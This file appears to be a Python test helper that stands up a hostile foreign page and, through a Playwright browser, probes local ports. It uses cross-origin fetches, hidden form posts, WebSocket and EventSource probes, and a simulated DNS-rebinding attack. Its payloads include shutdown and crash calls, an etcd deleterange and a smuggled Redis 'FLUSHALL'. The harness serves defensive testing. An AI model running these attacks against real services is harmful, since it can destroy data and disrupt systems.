"""A page of another site that attacks the ports of the system by all means of a browser."""

import json
import threading
from collections.abc import Iterator, Mapping, Sequence
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any, ClassVar

import requests
from playwright.sync_api import Page

HOST = "evil.example"
RESOLVER_RULE = f"--host-resolver-rules=MAP {HOST} 127.0.0.1"
"""For Chromium: resolves the foreign site's name to this machine, as after DNS rebinding."""
MARK = "evil"
"""A part of every key, name and id that the page tries to write."""

_ITEM = {"sku": "Vans Old Skool", "quantity": 1}
READS = (
    "/",
    "/healthz",
    "/readyz",
    "/metrics",
    "/orders",
    "/events",
    "/openapi.json",
    "/health",
    "/version",
    "/v1.0/healthz",
    "/v1.0/metadata",
    "/v1.0/state/statestore/any",
    "/v1.0/invoke/orderprocessing/method/orders",
    "/debug/pprof/",
)
WRITES = (
    ("/orders", json.dumps({"id": f"{MARK}-1", "customerId": MARK, "items": [_ITEM]})),
    ("/chaos/crash", "{}"),
    ("/maintenance", '{"enabled": true}'),
    ("/shop/orders", f"sku=Vans+Old+Skool&quantity=1&customer={MARK}"),
    ("/v1.0/state/statestore", json.dumps([{"key": f"{MARK}-2", "value": 1}])),
    ("/v1.0/invoke/orderprocessing/method/orders", json.dumps({"customerId": MARK, "items": [_ITEM]})),
    ("/v1.0/publish/orders/orders", json.dumps({"id": f"{MARK}-3"})),
    ("/v1.0/shutdown", ""),
    ("/v3/kv/put", json.dumps({"key": "ZXZpbC00", "value": "MQ=="})),
    ("/v3/kv/deleterange", json.dumps({"key": "AA==", "range_end": "AA=="})),
    ("/v3/kv/range", json.dumps({"key": "AA==", "range_end": "AA=="})),
    ("/", f"SET {MARK}-5 1\r\nFLUSHALL\r\n"),
)
STREAMS = ("/events/stream", "/live", "/v3/watch", "/")

FORMS = tuple(one for one in WRITES if one[0] in {"/orders", "/chaos/crash", "/v1.0/state/statestore", "/"})
_AT_ONCE = 16
"""Ports per batch; the browser limits the number of connections."""

# Returns one line for each readable answer.
_ATTACK = """async ({bases, reads, writes, forms, streams}) => {
  const found = [], tries = [], patience = 2000;
  const read = async (how, url, options) => {
    try {
      const answer = await fetch(url, {signal: AbortSignal.timeout(patience), ...options});
      if (answer.type !== 'opaque') found.push(`${how} ${url}: ${answer.status}`);
    } catch { /* the browser kept the answer from the page, or there was none */ }
  };
  const submit = (url, body) => new Promise(done => {
    const frame = document.createElement('iframe'), form = document.createElement('form');
    const field = document.createElement('input'), cut = body.includes('=') ? body.indexOf('=') : body.length;
    frame.name = `frame${document.forms.length}`;
    Object.assign(form, {method: 'POST', action: url, target: frame.name, enctype: 'text/plain'});
    Object.assign(field, {name: body.slice(0, cut), value: body.slice(cut + 1)});
    form.append(field); document.body.append(frame, form);
    frame.onload = done; setTimeout(done, patience);
    form.submit();
  });
  const open = (how, url, channel) => new Promise(done => {
    channel.onopen = () => { found.push(`${how} ${url}: open`); done(); };
    channel.onerror = done;
    setTimeout(done, patience);
  }).finally(() => channel.close());
  const text = {'Content-Type': 'text/plain'}, json = {'Content-Type': 'application/json'};
  for (const base of bases) {
    for (const path of reads) {
      tries.push(read('GET', base + path, {}));
      tries.push(read('GET with cookies', base + path, {credentials: 'include'}));
    }
    for (const [path, body] of writes) {
      tries.push(read('POST of text', base + path, {method: 'POST', body, headers: text}));
      tries.push(read('POST of JSON', base + path, {method: 'POST', body, headers: json}));
      tries.push(read('POST', base + path, {method: 'POST', body, headers: text, mode: 'no-cors'}));
    }
    for (const [path, body] of forms) {
      tries.push(submit(base + path, body));
      tries.push(read('PUT', base + path, {method: 'PUT', body}), read('DELETE', base + path, {method: 'DELETE'}));
    }
    for (const path of streams) {
      tries.push(open('EventSource', base + path, new EventSource(base + path)));
      const socket = base.replace('http', 'ws') + path;
      tries.push(open('WebSocket', socket, new WebSocket(socket)));
    }
  }
  await Promise.all(tries);
  for (const one of document.querySelectorAll('form, iframe')) one.remove();
  return found;
}"""


class _Site(BaseHTTPRequestHandler):
    """Answers every request with a page and the headers in `allowed`."""

    allowed: ClassVar[Mapping[str, str]] = {}

    def do_GET(self) -> None:
        self.rfile.read(int(self.headers.get("Content-Length") or 0))
        stream = "event-stream" in self.headers.get("Accept", "")
        body = b"data: 1\n\n" if stream else b"<!doctype html><title>Foreign</title>"
        self.send_response(200)
        self.send_header("Content-Type", "text/event-stream" if stream else "text/html")
        self.send_header("Content-Length", str(len(body)))
        for name, value in self.allowed.items():
            self.send_header(name, value)
        self.end_headers()
        self.wfile.write(body)

    do_POST = do_PUT = do_DELETE = do_OPTIONS = do_GET  # noqa: N815 - the base class looks for these names

    def log_message(self, format: str, *args: Any) -> None:  # noqa: A002 - the base class names it so
        pass


class _CarelessSite(_Site):
    allowed: ClassVar[Mapping[str, str]] = {
        f"Access-Control-Allow-{what}": "*" for what in ("Origin", "Methods", "Headers")
    }


@contextmanager
def foreign_site() -> Iterator[str]:
    """Serve a page of another site and yield its URL."""
    with _served(_Site) as port:
        yield f"http://{HOST}:{port}/"


@contextmanager
def careless_site() -> Iterator[int]:
    """Serve answers that every page may read, as the etcd of the unmodified scheduler does, and yield the port."""
    with _served(_CarelessSite) as port:
        yield port


@contextmanager
def _served(site: type[BaseHTTPRequestHandler]) -> Iterator[int]:
    server = ThreadingHTTPServer(("127.0.0.1", 0), site)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield server.server_port
    finally:
        server.shutdown()
        server.server_close()


def attack(page: Page, ports: Sequence[int]) -> list[str]:
    """Attack the ports and return the answers that the page could read."""
    given = {"reads": READS, "writes": WRITES, "forms": FORMS, "streams": STREAMS}
    found: list[str] = []
    for start in range(0, len(ports), _AT_ONCE):
        bases = [f"http://127.0.0.1:{port}" for port in ports[start : start + _AT_ONCE]]
        found += page.evaluate(_ATTACK, {**given, "bases": bases})
    return found


def attack_rebound(port: int) -> list[str]:
    """Attack a port as a page after DNS rebinding does, and return the answers that it could read.

    To the browser the port is then of the page's own site: it sends what it is told and shows what it gets, but the
    name in Host and Origin.
    """
    base = f"http://127.0.0.1:{port}"
    own = f"{HOST}:{port}"
    headers = {"Host": own, "Origin": f"http://{own}", "Sec-Fetch-Site": "same-origin"}
    found = []
    with requests.Session() as session:
        for path in READS:
            found += _read(session, "GET", path, base, headers, None)
        for path, body in WRITES:
            for method in ("POST", "PUT"):
                found += _read(session, method, path, base, {**headers, "Content-Type": "application/json"}, body)
    return found


def _read(
    session: requests.Session, method: str, path: str, base: str, headers: dict[str, str], body: str | None
) -> list[str]:
    try:
        answer = session.request(method, base + path, headers=headers, data=body, timeout=5, allow_redirects=False)
    except requests.RequestException:
        return []
    return [f"{method} {path}"] if answer.ok and not answer.is_redirect else []
